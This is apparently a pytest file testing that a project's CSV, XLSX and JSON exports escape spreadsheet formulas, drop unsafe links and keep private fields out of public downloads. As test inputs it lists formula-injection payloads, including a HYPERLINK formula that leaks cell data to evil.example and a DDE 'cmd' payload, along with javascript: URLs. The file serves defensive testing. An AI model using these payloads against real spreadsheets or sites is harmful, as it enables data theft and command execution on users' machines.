"""Exports and downloads: no formula, no live unsafe link, and in public files only the public view."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import openpyxl
import pytest

from precis.errors import PrecisError
from precis.record import CELL_LIMIT
from precis.sheets import csv_escape, csv_unescape, read_file, write_file
from precis.site.downloads import write_downloads
from precis.store import Store, find_entry, import_records, load_records
from tests.helpers import init_store, run_precis

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(1,1)",
    "\tindented",
    "\r=carriage",
    "'=already quoted",
    "''+twice quoted",
    "'plain quote",
]
PRIVATE_TITLE = "Internal Draft on Lab Policy"
UNSAFE = "javascript:alert(1)"


def plant_formulas(store: Store) -> None:
    """Texts a spreadsheet would read as formulas, in several columns of the sample."""
    with store.session() as s:
        entries = [find_entry(s, t) for t in ("Curve Detectors", "Proximal Policy Optimization Algorithms")]
        fields = ("summary", "authors", "venue", "hat_tip", "read_more")
        for i, text in enumerate(FORMULAS):
            setattr(entries[i % 2], fields[i % 5], text)
        find_entry(s, "A Pending Post About Evaluations").title = FORMULAS[1]


def formula_cells(path: Path) -> list[str]:
    ws = openpyxl.load_workbook(path).worksheets[0]
    return [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_csv_escaping_round_trips_every_text():
    for text in [*FORMULAS, "", "'", "''", "plain", "'-", "a=b", "-"]:
        assert csv_unescape(csv_escape(text)) == text
        assert not csv_escape(text).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_xlsx_export_holds_no_formula_and_round_trips(sample_store, tmp_path):
    plant_formulas(sample_store)
    out = tmp_path / "out.xlsx"
    write_file(out, load_records(sample_store))
    assert formula_cells(out) == []
    values = {c.value for row in openpyxl.load_workbook(out).worksheets[0].iter_rows() for c in row}
    assert FORMULAS[0] in values and "=cmd|' /C calc'!A0" in values
    assert_round_trip(sample_store, out, tmp_path)


def test_csv_export_escapes_formulas_and_round_trips(sample_store, tmp_path):
    plant_formulas(sample_store)
    out = tmp_path / "out.csv"
    write_file(out, load_records(sample_store))
    for row in csv.reader(io.StringIO(out.read_text("utf-8"), newline="")):
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert "'=cmd|' /C calc'!A0" in out.read_text("utf-8")
    assert "'''+twice quoted" in out.read_text("utf-8")
    assert_round_trip(sample_store, out, tmp_path)


def assert_round_trip(store: Store, path: Path, tmp_path: Path) -> None:
    fresh = init_store(Store(str(tmp_path / f"fresh-{path.suffix[1:]}.db")))
    import_records(fresh, read_file(path))
    assert [r.to_dict() for r in load_records(fresh)] == [r.to_dict() for r in load_records(store)]


def test_public_downloads_hold_no_formula_and_no_unsafe_link(sample_store, tmp_path):
    plant_formulas(sample_store)
    with sample_store.session() as s:
        find_entry(s, "Scaling Laws for Neural Language Models").title_url = UNSAFE
        find_entry(s, "Curve Detectors").read_more_url = " JavaScript:alert(2)"
    folder = tmp_path / "downloads"
    folder.mkdir()
    write_downloads(sample_store.display, folder, "sample", {})
    xlsx = folder / "sample.xlsx"
    assert formula_cells(xlsx) == []
    ws = openpyxl.load_workbook(xlsx).worksheets[0]
    targets = [c.hyperlink.target for row in ws.iter_rows() for c in row if c.hyperlink]
    assert targets and all(t.startswith(("https://", "http://", "mailto:")) for t in targets)
    titles = [c.value for c in ws["C"]]
    assert "Scaling Laws for Neural Language Models" in titles  # the text stays, unlinked
    for row in csv.reader(io.StringIO((folder / "sample.csv").read_text("utf-8"), newline="")):
        assert not any(v.startswith(("=", "+", "-", "@")) for v in row)


def test_the_private_xlsx_export_keeps_an_unsafe_link_as_text(sample_store, tmp_path):
    with sample_store.session() as s:
        find_entry(s, "Scaling Laws for Neural Language Models").title_url = UNSAFE
    out = tmp_path / "backup.xlsx"
    write_file(out, load_records(sample_store))
    ws = openpyxl.load_workbook(out).worksheets[0]
    header = [c.value for c in ws[1]]
    assert "Title link" in header
    assert all(not (c.hyperlink and "javascript" in (c.hyperlink.target or "")) for row in ws.iter_rows() for c in row)
    back = {r.title: r for r in read_file(out)}
    assert back["Scaling Laws for Neural Language Models"].title_url == UNSAFE
    assert back["Curve Detectors"].title_url == "https://distill.pub/2020/circuits/curve-detectors/"


def test_the_xlsx_export_refuses_a_cell_over_excels_limit(sample_store, tmp_path):
    with sample_store.session() as s:
        find_entry(s, "Curve Detectors").summary = "x" * (CELL_LIMIT + 1)
    with pytest.raises(PrecisError, match=r"entry 'Curve Detectors', column Summary: 32,768 characters"):
        write_file(tmp_path / "big.xlsx", load_records(sample_store))


def test_a_site_build_whose_download_cannot_hold_a_text_names_it_in_one_line(sample_store, tmp_path):
    # A text over Excel's limit can only come by a route other than import; the archive's .xlsx
    # download refuses it by name rather than cutting it.
    with sample_store.session() as s:
        find_entry(s, "Curve Detectors").summary = "x" * (CELL_LIMIT + 1)
    result = run_precis(sample_store.display, "site", "build", str(tmp_path / "site"))
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert result.stderr.count("\n") == 1
    assert "entry 'Curve Detectors', column Summary: 32,768 characters, over Excel's limit" in result.stderr


def test_the_xlsx_export_of_a_stored_control_character_is_one_line(sample_store, tmp_path):
    with sample_store.session() as s:
        find_entry(s, "Curve Detectors").summary = "nul \x00 here"
    result = run_precis(sample_store.display, "export", str(tmp_path / "nul.xlsx"))
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "U+0000" in result.stderr and result.stderr.strip().count("\n") == 0


# -- public files: only the public view ----------------------------------------------------------


def make_leaky(store: Store) -> None:
    """A Link-only entry with written fields and links on other cells, and public texts that refer
    to a private entry and to no entry."""
    with store.session() as s:
        link_only = find_entry(s, "Sample Fellowship Announcement")
        link_only.hat_tip = "a secret source"
        link_only.summary = "written but not for the public"
        link_only.extra_links = {"H/T": "https://secret.example/source"}
        link_only.venue_url = "https://secret.example/venue"
        find_entry(s, "Proximal Policy Optimization Algorithms").title_url = " JavaScript:alert('public')"
        find_entry(s, "Curve Detectors").summary = (
            f"See <@the lab's draft@>(@{PRIVATE_TITLE}@), <@{PRIVATE_TITLE}@> and <@gone@>(@No Such Title@); "
            "but <@the circuits work@>(@Zoom In: An Introduction to Circuits@) stays."
        )
        find_entry(s, "Deep Reinforcement Learning from Human Preferences").opinions[0].text = (
            f"Unlike <@the draft@>(@{PRIVATE_TITLE}@)."
        )


@pytest.mark.parametrize("fmt", ["json", "csv", "xlsx"])
def test_public_export_holds_only_public_view_fields(sample_store, tmp_path, fmt):
    make_leaky(sample_store)
    out = tmp_path / f"public.{fmt}"
    result = run_precis(sample_store.display, "export", "--public", str(out))
    assert result.returncode == 0, result.stderr
    text = read_text(out)
    for secret in ("a secret source", "written but not for the public", "secret.example", f"(@{PRIVATE_TITLE}@)",
                   "Check the KL coefficient", "Email status", "Do not send", "private-draft", "alert('public')"):
        assert secret not in text, secret
    records = {r.title: r for r in read_file(out)}
    curve = records["Curve Detectors"].summary or ""
    assert "See the lab's draft, Internal Draft on Lab Policy and gone;" in curve
    assert "<@the circuits work@>(@Zoom In: An Introduction to Circuits@)" in curve
    opinion = records["Deep Reinforcement Learning from Human Preferences"].opinions[0].text
    assert opinion == "Unlike the draft."
    link_only = records["Sample Fellowship Announcement"]
    assert link_only.hat_tip is None and link_only.summary is None and link_only.extra_links is None
    assert link_only.title_url == "https://example.org/fellowship"


def test_the_archive_downloads_hold_only_public_view_fields(sample_store, tmp_path):
    make_leaky(sample_store)
    folder = tmp_path / "downloads"
    folder.mkdir()
    write_downloads(sample_store.display, folder, "sample", {})
    for ext in ("json", "csv", "xlsx"):
        text = read_text(folder / f"sample.{ext}")
        for secret in ("a secret source", "secret.example", f"(@{PRIVATE_TITLE}@)", "Check the KL", "Do not send",
                       "alert('public')"):
            assert secret not in text, (ext, secret)
    entries = json.loads((folder / "sample.json").read_text("utf-8"))["entries"]
    assert all("notes" not in e and "public_level" not in e and "email_status" not in e for e in entries)


def read_text(path: Path) -> str:
    """A file's text; an .xlsx as every cell value and hyperlink."""
    if path.suffix != ".xlsx":
        return path.read_text("utf-8")
    ws = openpyxl.load_workbook(path).worksheets[0]
    return "\n".join(
        f"{c.value}|{c.hyperlink.target if c.hyperlink else ''}" for row in ws.iter_rows() for c in row
    )
